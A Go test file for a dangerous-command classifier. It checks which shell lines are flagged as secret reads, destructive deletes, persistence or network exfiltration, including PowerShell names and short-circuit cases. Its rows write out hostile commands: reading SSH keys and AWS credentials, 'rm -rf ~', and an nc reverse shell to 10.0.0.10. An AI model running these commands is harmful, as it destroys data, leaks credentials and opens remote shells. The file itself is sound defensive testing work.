package danger

import (
	"testing"
)

// Tests of notdone.go's rules: what each marks, in every form its tool's
// reference gives, and the everyday neighbours it leaves alone.

// TestPrecisionPowerShellNamesInShell: PowerShell's cmdlets are named
// Verb-Noun with an approved verb (Get-Verb; "Approved Verbs for
// PowerShell Commands", Microsoft Learn), and powercat is a PowerShell
// module's function: no POSIX shell finds a program by those names, so
// "Get-Content ~/.aws/credentials" or "powercat -c HOST -p 666 -e cmd.exe"
// typed as a shell line print "command not found" and run nothing (labels
// i1068, r0651, dev8's u0115). The same cmdlets inside pwsh -c or
// powershell -Command are PowerShell's and keep their marks (i0258).
func TestPrecisionPowerShellNamesInShell(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: run by PowerShell, or a real program.
		{`pwsh -c '"DATA" | Out-File /home/user/.zshrc'`, PersistenceStartupFiles},
		{`pwsh -c 'Get-Content ~/.ssh/id_rsa'`, SecretRead},
		{`pwsh -c 'Remove-Item -Recurse -Force ~'`, DestructiveDelete},
		{`nc -c 10.0.0.10 -p 666 -e /bin/sh`, NetworkExfiltration},
		{`cat ~/.aws/credentials`, SecretRead},
		// Everyday: not found as shell programs.
		{`powercat -c 10.0.0.10 -p 666 -e cmd.exe`, ""},
		{`Get-Content ~/.aws/credentials`, ""},
		{`Copy-Item ~/.ssh/id_rsa /tmp/`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestShortCircuitNeverRuns: bash(1), Lists: "command1 || command2:
// command2 is executed if, and only if, command1 returns a non-zero exit
// status"; "command1 && command2: … if, and only if, command1 returns an
// exit status of zero". The builtins true (and :) always return zero and
// false non-zero, so the right side of "true ||" and "false &&" never
// runs, nor what is nested in it. Any other left side, "! true", a
// longer chain's later parts and the left side itself keep their marks.
// Moves heldout16's e0443.
func TestShortCircuitNeverRuns(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`true || sudo rm -rf /etc`, ""}, // e0443
		{`true || rm -rf ~`, ""},
		{`: || rm -rf ~`, ""},
		{`false && rm -rf ~`, ""},
		{`false && echo "$(cat ~/.ssh/id_rsa)"`, ""},
		{`true && rm -rf ~`, DestructiveDelete},
		{`false || rm -rf ~`, DestructiveDelete},
		{`test -d x || rm -rf ~`, DestructiveDelete},
		{`! true || rm -rf ~`, DestructiveDelete},
		{`true || echo; rm -rf ~`, DestructiveDelete},
		{`rm -rf ~ || true`, DestructiveDelete},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
